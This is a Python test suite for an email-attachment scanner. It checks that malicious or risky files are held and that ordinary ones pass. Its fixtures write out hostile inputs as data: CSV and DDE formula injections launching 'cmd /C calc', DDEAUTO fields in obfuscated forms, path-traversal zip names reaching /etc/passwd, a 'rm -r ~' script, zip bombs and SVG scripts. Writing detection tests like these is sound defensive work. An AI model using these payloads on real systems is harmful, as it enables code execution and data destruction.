"""What strangers send is looked at by its content, within bounds, and held where anything is wrong."""

import gzip
import time
import zlib
from email.message import EmailMessage
from io import BytesIO
from pathlib import Path
from zipfile import ZIP_BZIP2, ZIP_LZMA, ZipFile

import pytest
from docx import Document
from hypothesis import given, settings
from hypothesis import strategies as st

from adapters.screen.look import look
from adapters.screen.safe import SafeScreen
from hub.intake.attachment import Danger
from tests.files import EICAR, a_docx, a_tar, a_zip, an_encrypted_zip, an_ole, forty_two
from tests.wrappings import msg, storage

PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 100
EXE = b"MZ\x90\0" + b"\0" * 200


def dangers(name: str, content: bytes) -> set[Danger]:
    return {it.danger for it in look(name, content).findings}


def a_saved_mail(name: str, content: bytes) -> bytes:
    mail = EmailMessage()
    mail.set_content("See the file.")
    mail.add_attachment(content, maintype="application", subtype="octet-stream", filename=name)
    return mail.as_bytes()


def a_field(*pieces: str) -> bytes:
    """A Word document with a field, its instruction in so many pieces."""
    runs = "".join(f"<w:r><w:instrText xml:space='preserve'>{it}</w:instrText></w:r>" for it in pieces)
    return a_docx({"word/document.xml": f"<w:document><w:p>{runs}</w:p></w:document>".encode()})


def a_link(kind: str) -> bytes:
    """To something elsewhere, its attributes in no order that anybody promised."""
    said = f"Target='http://x.example/a>b' TargetMode = 'Extern&#97;l' Type='http://x.example/relationships/{kind}'"
    return f"<Relationships><Relationship Id='r1' {said}/></Relationships>".encode()


def a_packed_pdf(
    said: bytes = b"/Type /ObjStm", objects: bytes = b"<< /S /JavaScript /JS (x) >>", named: bool = True
) -> bytes:
    """One whose objects are in an object stream."""
    said += b" /Filter /FlateDecode" if named else b""
    packed = zlib.compress(objects)
    stream = b"2 0 obj\n<< %s /N 1 /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
        said,
        len(packed),
        packed,
    )
    return PDF.replace(b"trailer", stream + b"trailer")


def a_zip_by(how: int) -> bytes:
    made = BytesIO()
    with ZipFile(made, "w", how) as archive:
        archive.writestr("a", EXE)
    return made.getvalue()


HELD = {
    "EICAR": ("notes.txt", EICAR, Danger.INFECTED),
    "EICAR in an archive": ("notes.zip", a_zip({"a.txt": EICAR}), Danger.INFECTED),
    "a program called a document": ("report.docx", EXE, Danger.EXECUTABLE),
    "a program for Linux": ("report.pdf", b"\x7fELF\x02\x01\x01" + b"\0" * 60, Danger.EXECUTABLE),
    "a script": ("report.txt", b"#!/bin/sh\nrm -r ~\n", Danger.EXECUTABLE),
    "a script by its ending": ("report.pdf.js", b"alert(1)", Danger.EXECUTABLE),
    "an ending with a dot behind": ("report.exe.", b"text", Danger.EXECUTABLE),
    "a shortcut": ("report", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60, Danger.EXECUTABLE),
    "an installer": ("a.msi", an_ole({"Tables": b"x"}), Danger.EXECUTABLE),
    "a Word document with macros": ("report.docx", a_docx({"word/vbaProject.bin": b"x"}), Danger.MACROS),
    "a workbook with a macro sheet": (
        "a.xlsx", a_docx({"xl/macrosheets/sheet1.xml": b"x"}), Danger.MACROS
    ),
    "an ODF document with macros": ("a.odt", a_zip({"mimetype": b"x", "Basic/a.xml": b"x"}), Danger.MACROS),
    "an encrypted ODF document": (
        "a.odt",
        a_zip({"mimetype": b"x", "META-INF/manifest.xml": b"<manifest:encryption-data/>"}),
        Danger.ENCRYPTED,
    ),
    "a template from elsewhere": (
        "a.docx",
        a_docx({"word/_rels/settings.xml.rels": b'<R Type="x/attachedTemplate" TargetMode="External"/>'}),
        Danger.ACTIVE,
    ),
    "an object in a document": ("a.docx", a_docx({"word/embeddings/oleObject1.bin": b"x"}), Danger.EMBEDDED),
    "an old document with macros": ("a.doc", an_ole({"Macros": {"VBA": {"dir": b"x"}}}), Danger.MACROS),
    "a locked old document": ("a.doc", an_ole({"WordDocument": b"\0" * 11 + b"\1"}), Danger.ENCRYPTED),
    "an old workbook that is locked": (
        "a.xls", an_ole({"Workbook": b"\x09\x08\2\0\0\0\x2f\0\2\0\0\0"}), Danger.ENCRYPTED
    ),
    "a sheet of macros": (
        "a.xls", an_ole({"Workbook": b"\x85\0\x08\0" + b"\0" * 5 + b"\1\0\0"}), Danger.MACROS
    ),
    "an encrypted document": ("a.docx", an_ole({"EncryptedPackage": b"x"}), Danger.ENCRYPTED),
    "an encrypted archive": ("a.zip", an_encrypted_zip(), Danger.ENCRYPTED),
    "an encrypted PDF": ("a.pdf", PDF.replace(b"/Root", b"/Encrypt 2 0 R /Root"), Danger.ENCRYPTED),
    "an encrypted PDF that spells it oddly": (
        "a.pdf", PDF.replace(b"/Root", b"/#45ncrypt 2 0 R /Root"), Danger.ENCRYPTED
    ),
    "a PDF with a script": ("a.pdf", PDF.replace(b"/Type", b"/JavaScript 3 0 R /Type"), Danger.ACTIVE),
    "an archive in an archive": ("a.zip", a_zip({"b.zip": a_zip({"c": b"c"})}), Danger.NESTED),
    "an archive in one by another name": ("a.zip", a_zip({"b.txt": a_zip({"c": b"c"})}), Danger.NESTED),
    "a document in an archive": ("a.zip", a_zip({"a.docx": a_docx()}), Danger.NESTED),
    "a program in an archive": ("a.zip", a_zip({"a.txt": EXE}), Danger.EXECUTABLE),
    "a bomb": ("42.zip", forty_two(), Danger.BOMB),
    "a bomb of names": ("a.zip", a_zip({f"{number}": b"" for number in range(2100)}), Danger.BOMB),
    "a name that climbs": ("a.zip", a_zip({"../../etc/passwd": b"x"}), Danger.UNSAFE_NAMES),
    "a name from the root": ("a.zip", a_zip({"/etc/passwd": b"x"}), Danger.UNSAFE_NAMES),
    "a name on a drive": ("a.zip", a_zip({"C:\\windows\\a": b"x"}), Danger.UNSAFE_NAMES),
    "a tar that climbs": ("a.tar", a_tar({"../a": b"x"}), Danger.UNSAFE_NAMES),
    "a tar with a program": ("a.tar", a_tar({"a": EXE}), Danger.EXECUTABLE),
    "a gzip": ("a.gz", gzip.compress(b"x"), Danger.UNLISTED),
    "a 7z": ("a.7z", b"7z\xbc\xaf\x27\x1c" + b"\0" * 40, Danger.UNLISTED),
    "a rar": ("a.rar", b"Rar!\x1a\x07\1\0" + b"\0" * 40, Danger.UNLISTED),
    "an archive without its listing": ("a.zip", a_zip({"a": b"x"})[:30], Danger.UNREADABLE),
    "an archive behind a picture": ("a.png", PNG + a_zip({"a": b"x"}), Danger.DISGUISED),
    "a page with a script": ("a.html", b"<html><script>1</script>", Danger.ACTIVE),
    "a picture with a script": ("a.svg", b"<svg xmlns='x'><script>1</script></svg>", Danger.ACTIVE),
    "a page in wide letters": ("a.html", "\ufeff<html><script>".encode("utf-16-le"), Danger.ACTIVE),
    "rich text with an object": ("a.doc", b"{\\rtf1{\\object\\objdata 00}}", Danger.EMBEDDED),
    "a program in a saved mail": ("a.eml", a_saved_mail("a.txt", EXE), Danger.EXECUTABLE),
    "a program in a mail by another name": ("letter.txt", a_saved_mail("a.txt", EXE), Danger.EXECUTABLE),
    "a program in a mail without a name": ("", a_saved_mail("a.txt", EXE), Danger.EXECUTABLE),
    "a program in what calls itself a document": ("a.doc", a_saved_mail("a.txt", EXE), Danger.EXECUTABLE),
    "a picture that acts when it is shown": ("a.svg", b'<svg onload="alert(1)"/>', Danger.ACTIVE),
    "a program in an Outlook mail": (
        "a.msg", msg({0x37: "x"}, [storage({0x3707: "a.txt", 0x3701: EXE})]), Danger.EXECUTABLE
    ),
    "a query that a spreadsheet runs": ("a.iqy", b"WEB\n1\nhttp://a.example", Danger.EXECUTABLE),
    "a symbolic link sheet": ("a.slk", b"ID;P\nE\n", Danger.MACROS),
    "a table that starts a program": ("a.csv", b"name,x\nAnn,=cmd|' /C calc'!A0\n", Danger.ACTIVE),
    "one after a sum": ("a.csv", b"Ann;@SUM(1+1)*cmd|' /C calc'!A0\n", Danger.ACTIVE),
    "one after a number": ("a.csv", b"-2+3+cmd|' /C calc'!A0\n", Danger.ACTIVE),
    "one after a plus, in quotes": ("a.csv", b'"Ann","+cmd|\'/C calc,x\'!A0"\n', Danger.ACTIVE),
    "one by another program": ("a.txt", b"a\t=msexcel|'\\\\x.example\\a.xls'!A1", Danger.ACTIVE),
    "one by a program nobody knows": ("a.csv", b"a,=SUM(1)+foo|bar!A1\r\n", Danger.ACTIVE),
    "one in wide letters": ("a.csv", "\ufeffa,=cmd|' /C calc'!A0".encode("utf-16-le"), Danger.ACTIVE),
    "one far from where its cell begins": (
        "a.csv", b"a,=" + b"1+" * 3000 + b"cmd|' /C calc'!A0", Danger.ACTIVE
    ),
    "one over two lines": ("a.csv", b'Ann,"=1+\n cmd|\'/C calc\'!A0"\n', Danger.ACTIVE),
    "one that fetches": ("a.csv", b'a,=IF(1,WEBSERVICE("http://x.example/"&A1))', Danger.ACTIVE),
    "one by the old function": ("a.csv", b'a,=DDE("cmd";"/C calc";"x")', Danger.ACTIVE),
    "a field that starts a program": ("a.docx", a_field("DDEAUTO c:\\\\a.exe"), Danger.ACTIVE),
    "one in pieces": ("a.docx", a_field("DD", "EAU", "TO c:\\\\a.exe"), Danger.ACTIVE),
    "one in a comment's clothes": ("a.docx", a_field("D<!--x-->D<![CDATA[E]]> c:\\\\a.exe"), Danger.ACTIVE),
    "one in entities": ("a.docx", a_field("&#68;DE c:\\\\a.exe"), Danger.ACTIVE),
    "one spelt in numbers": ("a.docx", a_field("QUOTE 68 68 69 65"), Danger.ACTIVE),
    "a field in wide letters": (
        "a.docx",
        a_docx({"word/header1.xml": "\ufeff<w:fldSimple w:instr=' DDE x y'/>".encode("utf-16-le")}),
        Danger.ACTIVE,
    ),
    "one in an old document": (
        "a.doc",
        an_ole({"WordDocument": b"\xec\xa5" + b"\0" * 90 + "\x13 DDEAUTO c:\\a".encode("utf-16-le")}),
        Danger.ACTIVE,
    ),
    "one in rich text": (
        "a.rtf", b"{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:\\\\a}}}", Danger.ACTIVE
    ),
    "a workbook linked with a program": (
        "a.xlsx", a_docx({"xl/externalLinks/externalLink1.xml": b"<ddeLink a='cmd'/>"}), Danger.ACTIVE
    ),
    "an ODF document linked with a program": (
        "a.ods",
        a_zip({"mimetype": b"x", "content.xml": b"<office:dde-source office:dde-application='cmd'/>"}),
        Danger.ACTIVE,
    ),
    "an object from elsewhere": (
        "a.docx", a_docx({"word/_rels/document.xml.rels": a_link("oleObject")}), Danger.ACTIVE
    ),
    "one behind padding": (
        "a.docx",
        a_docx({"word/_rels/document.xml.rels": b" " * 100_000 + a_link("oleObject")}),
        Danger.ACTIVE,
    ),
    "a frame from elsewhere": (
        "a.docx", a_docx({"word/_rels/webSettings.xml.rels": a_link("frame")}), Danger.ACTIVE
    ),
    "links longer than are looked through": (
        "a.docx", a_docx({"word/_rels/document.xml.rels": b" " * 3_000_000}), Danger.UNREADABLE
    ),
    "a library by its ending": ("a.library-ms", b"x", Danger.EXECUTABLE),
    "a library by another": ("a.txt", b"<?xml version='1.0'?><libraryDescription>", Danger.EXECUTABLE),
    "a remote desktop": ("a.rdp", b"x", Danger.EXECUTABLE),
    "one by another name": ("a.txt", b"screen mode id:i:2\nfull address:s:x.example\n", Danger.EXECUTABLE),
    "a data link": ("a.udl", b"x", Danger.EXECUTABLE),
    "one in wide letters by another name": (
        "a.txt", "\ufeff[oledb]\r\nProvider=x".encode("utf-16-le"), Danger.EXECUTABLE
    ),
    "a query by another name": ("a.txt", b"WEB\r\n1\r\nhttp://a.example", Danger.EXECUTABLE),
    "a symbolic link sheet by another name": ("a.csv", b"ID;PWXL;N;E\r\nC;X1;Y1\r\n", Danger.MACROS),
    "a PDF with a packed script": ("a.pdf", a_packed_pdf(), Danger.ACTIVE),
    "one that spells it oddly": ("a.pdf", a_packed_pdf(objects=b"<< /S /Java#53cript >>"), Danger.ACTIVE),
    "one whose packing is spelt oddly": ("a.pdf", a_packed_pdf(b"/Type /Obj#53tm"), Danger.ACTIVE),
    "one packed otherwise": (
        "a.pdf", a_packed_pdf(b"/Type /ObjStm /Filter /LZWDecode", named=False), Danger.UNLISTED
    ),
    "one packed twice": (
        "a.pdf",
        a_packed_pdf(b"/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]", named=False),
        Danger.UNLISTED,
    ),
    "a program in an archive packed otherwise": ("a.zip", a_zip_by(ZIP_LZMA), Danger.UNLISTED),
    "one packed otherwise again": ("a.zip", a_zip_by(ZIP_BZIP2), Danger.UNLISTED),
    "a sheet of macros behind much else": (
        "a.xls",
        an_ole({"Workbook": (b"\xe0\0\x14\0" + b"\0" * 20) * 4000
                + b"\x85\0\x08\0" + b"\0" * 5 + b"\1\0\0"}),
        Danger.MACROS,
    ),
    "a workbook of Excel 4 by itself": ("a.xls", b"\x09\x04\x06\0" + b"\0" * 40, Danger.MACROS),
}  # fmt: skip

PASSED = {
    "a text": ("notes.txt", b"An invented note."),
    "a text that begins like an archive": ("notes.txt", b"PK is short for park"),
    "a PDF": ("report.pdf", PDF),
    "a picture": ("photo.png", PNG),
    "a document": ("report.docx", a_docx()),
    "a workbook in a document": ("a.docx", a_docx({"word/embeddings/Microsoft_Excel_Sheet.xlsx": a_docx()})),
    "an archive of texts": ("a.zip", a_zip({"a.txt": b"a", "photos/b.png": PNG})),
    "a page of zeros": ("a.zip", a_zip({"a.bin": b"\0" * 3_000_000})),
    "a tar of texts": ("a.tar", a_tar({"a.txt": b"a"})),
    "an old document": ("a.doc", an_ole({"WordDocument": b"\xec\xa5" + b"\0" * 100})),
    "a saved mail with a picture": ("a.eml", a_saved_mail("a.png", PNG)),
    "minutes that quote a mail": ("minutes.txt", b"From: Ann\nSubject: Minutes\n\nWe met on Monday.\n"),
    "an invitation": ("a.ics", b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n"),
    "no name at all": ("", b"text"),
    "a document with ordinary fields": ("a.docx", a_field(" PAGE ", " TOC o ", " HYPERLINK x ")),
    "a document that speaks of DDE": ("a.docx", a_docx({"word/document.xml": b"<w:t>DDE, DDEAUTO</w:t>"})),
    "a document with a link to click": (
        "a.docx",
        a_docx({"word/_rels/document.xml.rels": a_link("hyperlink")}),
    ),
    "a PDF with packed objects": ("a.pdf", a_packed_pdf(objects=b"<< /Type /Page >>")),
    "a table of postcodes": ("a.csv", b"ID;Postcode;Name\r\n1;LS1 1AA;Ann\r\n"),
    "a text about an address": ("a.txt", b"His full address: see below.\n"),
    "a table of numbers": ("a.csv", b"name,owed\nAnn,-5.20\nBob,-3\n-1,-2\n"),
    "a table of telephone numbers": (
        "a.csv",
        b'Ann,+44 113 496 0000,"please call (after 5)"\nBob,+441134960001,"call(evenings)"\n',
    ),
    "a table cut by bars": ("a.txt", b"Ann|-5|ok!A\nBob|- none|Great!|x\n|-|cmd |x!y|\n"),
    "a table of ordinary sums": ("a.csv", b'n,"=""00123""",=SUM(A1:A3),=A1*2\n'),
    "notes over two lines": ("a.csv", b'Ann,"- rang\n- call(evenings)"\nBob,"5","x|y!z"\n'),
    "a list with dashes": ("a.txt", b"- call the school (0113)\n- the link (see below)\n- @ann wrote!\n"),
}


@pytest.mark.parametrize("name", ["notification-form.docx", "notification-form.pdf"])
def test_the_hubs_own_forms_pass(name: str) -> None:
    assert look(name, (Path(__file__).parents[2] / "config" / "forms" / name).read_bytes()).findings == ()


def test_a_document_as_word_is_given_it_passes() -> None:
    document, made = Document(), BytesIO()
    document.add_heading("DDE")
    document.add_table(2, 2)
    document.save(made)
    assert look("report.docx", made.getvalue()).findings == ()


@pytest.mark.parametrize("what", HELD)
def test_what_is_held_and_why(what: str) -> None:
    name, content, danger = HELD[what]
    assert danger in dangers(name, content)


@pytest.mark.parametrize("what", PASSED)
def test_what_nothing_speaks_against(what: str) -> None:
    name, content = PASSED[what]
    assert look(name, content).findings == ()


def test_the_type_is_that_of_the_content() -> None:
    assert look("a.txt", PNG).content_type == "image/png"
    assert look("a.pdf", EXE).content_type == "application/vnd.microsoft.portable-executable"
    assert look("a.zip", a_docx()).content_type.endswith("wordprocessingml.document")


def test_a_bomb_is_told_from_its_listing_alone() -> None:
    bomb = forty_two(2000)
    assert len(bomb) < 300_000
    began = time.process_time()
    assert Danger.BOMB in dangers("42.zip", bomb)
    assert time.process_time() - began < 1


@settings(deadline=None)
@given(st.binary(max_size=300), st.sampled_from([b"", b"PK\x03\x04", b"%PDF-", b"MZ", b"<svg", b"{\\rtf"]))
def test_no_bytes_raise(noise: bytes, start: bytes) -> None:
    look("a.eml", start + noise)
    look("a", start + noise + b"PK\x05\x06" + noise)


@settings(deadline=None)
@given(st.data())
def test_no_damage_to_an_archive_raises(data: st.DataObject) -> None:
    made = bytearray(data.draw(st.sampled_from([a_docx(), HELD["a bomb"][1][:2000], a_tar({"a": b"a"})])))
    for at in data.draw(st.lists(st.integers(0, len(made) - 1), max_size=8)):
        made[at] = data.draw(st.integers(0, 255))
    look("a.zip", bytes(made))


def test_behind_the_wall_the_same_is_found_and_what_kills_the_child_is_held() -> None:
    screen = SafeScreen(timeout=20)
    try:
        for name, content, _ in HELD.values():
            assert screen(name, content) == look(name, content)
    finally:
        screen.close()
    hasty = SafeScreen(timeout=0.0001)
    assert {it.danger for it in hasty("a.txt", b"text").findings} == {Danger.UNREADABLE}


@pytest.mark.parametrize("piece", [b"1 0 obj<</Type/ObjStm>>stream\n", b"obj stream\n", b"#41#", b"stream\n"])
def test_a_pdf_of_one_piece_is_looked_at_in_time_that_grows_with_it(piece: bytes) -> None:
    content = b"%PDF-1.7\n" + piece * (2_000_000 // len(piece))
    began = time.process_time()
    look("a.pdf", content)
    look("a.pdf", content + b"endstream")
    assert time.process_time() - began < 4


@pytest.mark.parametrize("piece", [b"<!--", b"<![CDATA[", b"<a instr='", b"<w:instrText>", b"<", b"-->"])
def test_a_part_of_one_piece_is_looked_at_in_time_that_grows_with_it(piece: bytes) -> None:
    part = piece * (2_000_000 // len(piece))
    content = a_zip({"[Content_Types].xml": b"", "word/document.xml": part, "a.rels": part}, packed=False)
    began = time.process_time()
    look("a.docx", content)
    assert time.process_time() - began < 4
